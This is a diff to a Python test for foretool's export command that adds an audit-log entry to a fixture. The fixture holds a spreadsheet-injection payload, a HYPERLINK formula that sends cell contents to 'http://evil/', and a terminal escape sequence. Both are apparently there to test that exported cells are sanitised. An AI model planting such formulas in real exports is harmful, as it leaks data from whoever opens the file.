@@ -19,7 +19,7 @@ from foretool.server.commands.export import KINDS, safe_cell
 from foretool.server.commands.group import run
 from foretool.server.config.loader import load
 from foretool.storage.opening import open_store
-from foretool.storage.records import Call, Discovery, Miss, Prompt, ToolId
+from foretool.storage.records import AuditEntry, Call, Discovery, Miss, Prompt, ToolId
 
 FORMULA = '=HYPERLINK("http://evil/?"&A1)'
 CALLED = Call("s1", 0.0, CALC, "calc", "name", False, "ok", 1.0, True, '{"a":"number"}')
@@ -34,6 +34,7 @@ def written(tmp_path: Path) -> Path:
             "s9", now - 50, FORMULA, "unknown_name", "unknown", 0, 3, "\x1b]0;x\x07@SUM(A1)", (CALC,), 0, 0, "", "no",
             1, 2, {"words": -1.5}, call=2,
         )  # fmt: skip
+        store.audit.add([AuditEntry(now - 9, "oauth:1", "ann", "cursor", "", "call", CALC, "ok")])
         store.calls.record([replace(CALLED, session="s9", at=now - 60 + place) for place in range(2)], [missed])
     return path
 
